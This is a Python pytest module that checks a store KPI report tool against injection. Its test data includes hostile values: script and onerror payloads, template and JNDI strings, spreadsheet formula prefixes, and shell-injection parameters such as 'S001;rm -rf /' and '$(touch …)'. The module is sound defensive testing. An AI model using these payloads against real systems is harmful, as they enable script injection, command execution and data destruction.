"""Injection: hostile names stay text in every output; hostile parameters are refused.

One store report is rendered from a hostile copy of the tiny fixture (tests/system/hostile_data.py:
store name with <script>, consultants named {{ 7*7 }}<img onerror>, =HYPERLINK(…), +cmd|…).
Bad STORE / MONTH / LANG / data / out-dir values go through the CLI (in process, and twice
as a real subprocess), the papermill parameter path and the Makefile.
"""

from __future__ import annotations

import os
import re
import subprocess
import sys
import zipfile
import zlib
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import openpyxl
import pytest

from kpi_lib import cli, paths
from kpi_lib.errors import ParameterError
from tests.system.hostile_data import (
    CITY,
    COMPETITOR,
    CONSULTANTS,
    CUSTOMERS,
    MONTH,
    REGION,
    SOURCE,
    STORE,
    STORE_NAME,
    hostile_report,
    pdf_text,
)

ROOT = Path(__file__).resolve().parents[2]
FORMULA_NAMES = [n for n in CONSULTANTS.values() if n[0] in "=+-@"]
NAMES = [STORE_NAME, REGION, CITY, COMPETITOR, SOURCE, *CONSULTANTS.values()]


@pytest.fixture(scope="module")
def report(tmp_path_factory) -> dict[str, Path]:
    return hostile_report(tmp_path_factory.mktemp("hostile"))


class Page(HTMLParser):
    """Tags with their attributes, visible text, and the contents of <style> and <title>."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.styles: list[str] = []
        self.title = ""
        self._raw: str | None = None
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag in ("style", "title", "script"):
            self._raw = tag
            if tag == "style":
                self.styles.append("")

    def handle_endtag(self, tag):
        if tag == self._raw:
            self._raw = None

    def handle_data(self, data):
        if self._raw == "style":
            self.styles[-1] += data
        elif self._raw == "title":
            self.title += data
        elif self._raw is None:
            self.text.append(data)

    @property
    def visible(self) -> str:
        return "".join(self.text)


@pytest.fixture(scope="module")
def page(report) -> Page:
    return Page(report["html"].read_text("utf-8"))


# --------------------------------------------------------------------------- HTML


def test_html_has_no_active_content(page):
    tags = {tag for tag, _ in page.tags}
    assert tags.isdisjoint({"script", "iframe", "object", "embed", "form", "base", "link"})
    handlers = [(tag, a) for tag, attrs in page.tags for a in attrs if a.lower().startswith("on")]
    assert handlers == []
    images = [attrs.get("src") or "" for tag, attrs in page.tags if tag == "img"]
    assert images and all(src.startswith("data:image/") for src in images)  # charts, inline
    links = [attrs.get("href") or "" for tag, attrs in page.tags if tag == "a"]
    assert all(href.startswith("#") for href in links), links  # heading anchors only


def test_html_shows_the_hostile_names_as_escaped_text(report, page):
    html = report["html"].read_text("utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<img src=x" not in html
    for name in NAMES:
        assert name in page.visible, name
    assert STORE_NAME in page.title
    # not evaluated by Jinja (nbconvert template, Styler) or by Markdown
    assert "{{ 7*7 }}<img src=x onerror=alert(1)>" in page.visible
    assert "49<img" not in page.visible
    assert "{% raw %}${jndi:ldap://evil/a}" in page.visible
    # a name with $…$ is no matplotlib mathtext: the chart is drawn, no traceback shown
    assert "Traceback" not in page.visible and "Exception" not in page.visible


def test_style_blocks_hold_only_css(page):
    assert page.styles
    for css in page.styles:  # names in CSS strings keep no "<": they cannot end the element
        assert "<" not in css
    header = next(css for css in page.styles if "@top-left" in css)
    assert r"content: " '"S1 \\3c script>alert(1)\\3c /script>\\"店' in header
    assert "@top-left" not in page.visible and "font-size" not in page.visible
    # the competitor's </style> is table text, not the end of a style element
    assert COMPETITOR in page.visible


def test_template_escapes_header_values(tmp_path):
    from kpi_lib.run.render import notebook_to_html

    nb = nbformat.v4.new_notebook()
    nb.cells.append(nbformat.v4.new_markdown_cell("# Title"))
    evil = "</style><script>alert(5)</script>{{ 7*7 }}"
    meta = {"store": "S1", "store_name": evil, "month": MONTH, "lang": "zh",
            "title": evil, "region": "</title><img src=x onerror=alert(6)>"}
    page = Page(notebook_to_html(nb, meta))
    assert "script" not in {tag for tag, _ in page.tags}
    assert not [a for _, attrs in page.tags for a in attrs if a.startswith("on")]
    assert page.styles and all("<" not in css for css in page.styles)
    assert "\\3c /style>\\3c script>alert(5)" in "".join(page.styles)  # inert CSS string
    assert evil in page.title and evil in page.visible
    assert "</title><img src=x onerror=alert(6)>" in page.visible


# --------------------------------------------------------------------------- PDF


def _pdf_objects(pdf: Path) -> bytes:
    """The PDF bytes plus every Flate stream decompressed (object streams included)."""
    raw = pdf.read_bytes()
    parts = [raw]
    for m in re.finditer(rb"stream\r?\n(.*?)endstream", raw, re.S):
        try:
            parts.append(zlib.decompress(m.group(1)))
        except zlib.error:
            continue
    return b"\n".join(parts)


def test_pdf_holds_the_names_as_plain_text_and_no_actions(report):
    words = re.sub(r"\s+", "", pdf_text(report["pdf"]))
    for name in NAMES:
        assert re.sub(r"\s+", "", name) in words, name
    assert "49<img" not in words
    actions = re.findall(rb"/(JavaScript|JS|URI|Launch|OpenAction|AA|SubmitForm|GoToR)"
                         rb"(?=[\s/<>\[\]()])", _pdf_objects(report["pdf"]))
    assert actions == []


# --------------------------------------------------------------------------- xlsx


def test_xlsx_has_no_formulas_and_guards_formula_like_names(report):
    book = openpyxl.load_workbook(report["xlsx"])
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row
             if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    for name in FORMULA_NAMES:
        guarded = [c for c in cells if c.value == "'" + name]
        assert guarded, name  # the quote guard: ' + the text (excel_style.safe_text)
        assert all(c.data_type == "s" and c.quotePrefix for c in guarded)
        assert name not in texts
    assert any(STORE_NAME in t for t in texts)
    assert CONSULTANTS["C11"] in texts  # not a formula prefix: kept as it is
    with zipfile.ZipFile(report["xlsx"]) as zf:
        sheets = [zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/worksheets/")]
        assert not any(n.startswith("xl/externalLinks") for n in zf.namelist())
    assert sheets and not any(re.search(r"<f[\s>/]", xml) for xml in sheets)
    assert not any("TargetMode=\"External\"" in xml for xml in sheets)


# --------------------------------------------------------------------------- ipynb


def test_executed_notebook_holds_only_the_checked_parameters(report):
    nb = nbformat.read(report["ipynb"], as_version=4)
    injected = next(c for c in nb.cells if "injected-parameters" in c.metadata.get("tags", []))
    values: dict = {}
    exec(injected.source, {}, values)  # noqa: S102 - the papermill cell: assignments only
    assert values == {"store": STORE, "month": MONTH, "lang": "zh",
                      "data": str(report["data"].resolve())}
    errors = [o for c in nb.cells for o in c.get("outputs", []) if o.output_type == "error"]
    assert errors == []
    outputs = nbformat.writes(nb)
    for name, phone, *_ in CUSTOMERS.values():
        assert name not in outputs and phone not in outputs
    assert "欧阳**" in outputs  # the overdue-leads table does show customers, masked


# --------------------------------------------------------------------------- CLI


def _snapshot(*roots: Path) -> set[tuple[str, int, int]]:
    """Every file and folder under ``roots``: path, size, mtime."""
    out = set()
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            for name in dirnames + filenames:
                p = Path(dirpath, name)
                st = p.lstat()
                out.add((str(p), st.st_size, st.st_mtime_ns))
    return out


@pytest.fixture
def scene(report, tmp_path) -> dict[str, Path]:
    """Folders for one bad run: out-dir, an outside folder, a file, an empty folder, cwd."""
    s = {k: tmp_path / k for k in ("out", "outside", "empty", "cwd", "linked")}
    for k in ("out", "outside", "empty", "cwd", "linked"):
        s[k].mkdir()
    (s["linked"] / MONTH).symlink_to(s["outside"], target_is_directory=True)
    s["file"] = tmp_path / "a_file"
    s["file"].write_text("not a folder")
    s["data"] = report["data"]
    s["sentinel"] = tmp_path / "pwned"
    return s


#: the environment of a CLI subprocess: no background warm renderer
LOCAL = {**os.environ, "KPI_WARM": "0"}

BAD_RUNS = [  # (options after `report`, words of the plain message)
    (["--store", "../../etc"], "not a valid store id"),
    (["--store", "S001;rm -rf /"], "not a valid store id"),
    (["--store", "S001\n"], "not a valid store id"),
    (["--store", "$(id)"], "not a valid store id"),
    (["--store", "S1;touch {sentinel}"], "not a valid store id"),
    (["--store", "$(touch {sentinel})"], "not a valid store id"),
    (["--store", "S9"], "'S9' is not in the data; known stores: S1, S2"),
    (["--month", "2026-13"], "not of the form YYYY-MM"),
    (["--month", "2026-10/../.."], "not of the form YYYY-MM"),
    (["--month", "２０２６-０９"], "not of the form YYYY-MM"),  # full-width digits
    (["--month", "2031-01"], "outside the data, which covers 2026-08 to 2026-10"),
    (["--lang", 'zh"; import os'], "is not available; use one of: zh, en"),
    (["--lang", "de"], "'de' is not available"),
    (["--data", "{empty}/../../../../nowhere/etc"], "does not exist or is not a folder"),
    (["--data", "{file}"], "does not exist or is not a folder"),
    (["--data", "{empty}"], "holds no data files"),
    (["--out-dir", "{file}"], "cannot write to the output folder"),
    (["--out-dir", "{linked}"], "refusing to write outside"),
]


def _argv(options: list[str], scene: dict[str, Path]) -> list[str]:
    args = {"--store": STORE, "--month": MONTH, "--lang": "zh", "--data": str(scene["data"]),
            "--out-dir": str(scene["out"])}
    args.update(zip(options[::2], (v.format(**scene) for v in options[1::2]), strict=True))
    return ["report", *(x for kv in args.items() for x in kv)]


@pytest.mark.parametrize(("options", "words"), BAD_RUNS, ids=[" ".join(o) for o, _ in BAD_RUNS])
def test_cli_refuses_bad_parameters_and_writes_nothing(options, words, scene, monkeypatch,
                                                       capsys):
    roots = [scene["out"].parent, scene["data"]]
    before = _snapshot(*roots)
    monkeypatch.chdir(scene["cwd"])
    monkeypatch.setenv("KPI_WARM", "0")  # render here, not in a background renderer
    monkeypatch.setattr(sys, "argv", ["kpi_lib", *_argv(options, scene)])
    with pytest.raises(SystemExit) as exit_:
        cli.main()
    err = capsys.readouterr().err
    assert exit_.value.code == 2
    assert err.startswith("error: ") and words in err, err
    assert "Traceback" not in err and len(err.strip().splitlines()) <= 2
    assert _snapshot(*roots) == before
    assert not scene["sentinel"].exists()


@pytest.mark.parametrize(("options", "words"), [
    (["--store", "S1;touch {sentinel}"], "not a valid store id"),
    (["--out-dir", "{linked}"], "refusing to write outside"),
])
def test_cli_subprocess_gives_a_plain_message(options, words, scene):
    before = _snapshot(scene["out"].parent)
    run = subprocess.run([sys.executable, "-m", "kpi_lib", *_argv(options, scene)],
                         cwd=scene["cwd"], capture_output=True, text=True, timeout=120,
                         env=LOCAL)
    assert run.returncode == 2
    assert run.stderr.startswith("error: ") and words in run.stderr
    assert "Traceback" not in run.stderr and run.stdout == ""
    assert _snapshot(scene["out"].parent) == before
    assert not any(scene["outside"].iterdir()) and not scene["sentinel"].exists()


# --------------------------------------------------------------------------- Makefile


# -o: treat the venv / demo stamps as up to date, so that make goes straight to the report
# command (it must not reinstall packages or regenerate data/demo during a test).
MAKE = ["make", "-C", str(ROOT), "-o", "setup", "-o", "system-deps", "-o", ".venv/.installed",
        "-o", "data/demo/.complete", "report"]


@pytest.mark.parametrize(("store", "words"), [
    ("S001; touch {sentinel}", "not a valid store id"),
    ("S001`touch {sentinel}`", "not a valid store id"),
    ("$(shell touch {sentinel})", "STORE must not contain '$'"),
])
def test_make_report_does_not_run_an_injected_command(store, words, scene):
    before = _snapshot(scene["out"].parent)
    run = subprocess.run([*MAKE, "STORE=" + store.format(**scene), "MONTH=" + MONTH,
                          "DATA=" + str(scene["data"])],
                         cwd=scene["cwd"], capture_output=True, text=True, timeout=120,
                         env=LOCAL)
    assert run.returncode != 0
    assert words in run.stderr and "Traceback" not in run.stderr
    assert not scene["sentinel"].exists()
    assert _snapshot(scene["out"].parent) == before


# --------------------------------------------------------------------------- papermill path


BAD_PARAMS = [  # render_store_report(store, month, lang, data) with one bad value
    (("S1\"; import os", MONTH, "zh"), "not a valid store id"),
    (("S1", "2026-09'; import os #", "zh"), "not of the form YYYY-MM"),
    (("S1", MONTH, "zh\nimport os"), "is not available"),
    (("S1", MONTH, None), "is not available"),
]


@pytest.mark.parametrize(("params", "words"), BAD_PARAMS)
def test_report_parameters_are_checked_before_papermill(params, words, report, tmp_path,
                                                        monkeypatch):
    import papermill
    import papermill.parameterize

    from kpi_lib.run.store_reports import render_store_report

    def no_run(*args, **kwargs):
        raise AssertionError("papermill got unchecked parameters")

    monkeypatch.setattr(papermill, "execute_notebook", no_run)
    monkeypatch.setattr(papermill.parameterize, "parameterize_notebook", no_run)
    with pytest.raises(ParameterError, match=words):
        render_store_report(*params, report["data"], tmp_path / "out")
    assert list(tmp_path.iterdir()) == []


def test_batch_plan_checks_every_parameter(report, tmp_path):
    from kpi_lib.run.batch import plan_batch

    data = report["data"]
    for kwargs, words in [
        ({"month": "2026-09/../x"}, "not of the form YYYY-MM"),
        ({"month": MONTH, "lang": "de"}, "is not available"),
        ({"month": MONTH, "stores": ["S1", "../S2"]}, "not a valid store id"),
        ({"month": MONTH, "out_dir": tmp_path / "file"}, "cannot write to the output folder"),
    ]:
        (tmp_path / "file").write_text("x")
        with pytest.raises(ParameterError, match=re.escape(words)):
            plan_batch(data, **{"out_dir": tmp_path / "out", **kwargs})
        assert sorted(p.name for p in tmp_path.iterdir()) == ["file"]


def test_notebook_refuses_bad_parameters_itself(report):
    """The notebook's first call checks store, month and lang again (papermill run by hand)."""
    from kpi_lib.report.store_month import load_store_month

    for args, words in [(("../S1", MONTH, "zh"), "not a valid store id"),
                        ((STORE, "2026-9", "zh"), "not of the form YYYY-MM"),
                        ((STORE, MONTH, "zh'); import os; ('"), "is not available")]:
        with pytest.raises(ParameterError, match=re.escape(words)):
            load_store_month(*args, report["data"])


def test_papermill_parameters_cell_is_data_not_code(tmp_path):
    """Even an unchecked value is a string literal in the injected cell, never code."""
    from papermill.iorw import load_notebook_node
    from papermill.parameterize import parameterize_notebook

    sentinel = tmp_path / "pwned"
    hostile = {
        "store": f'S1"; open({str(sentinel)!r}, "w"); x = "',
        "month": f"2026-09'''\nopen({str(sentinel)!r}, 'w')\n'''",
        "lang": "zh\\\"; import os #\n",
        "data": str(tmp_path / "数据 $(id) `id`"),
    }
    nb = parameterize_notebook(load_notebook_node(str(paths.NOTEBOOKS / "store_report.ipynb")),
                               dict(hostile))
    cell = next(c for c in nb.cells if "injected-parameters" in c.metadata.get("tags", []))
    values: dict = {}
    exec(cell.source, {}, values)  # noqa: S102 - proving it only assigns
    assert values == hostile
    assert not sentinel.exists()


def test_a_data_folder_without_stores_says_so():
    from kpi_lib.ingest.inputs import check_store_known

    with pytest.raises(ParameterError, match=r"'S1' is not in the data: it holds no stores"):
        check_store_known("S1", [])
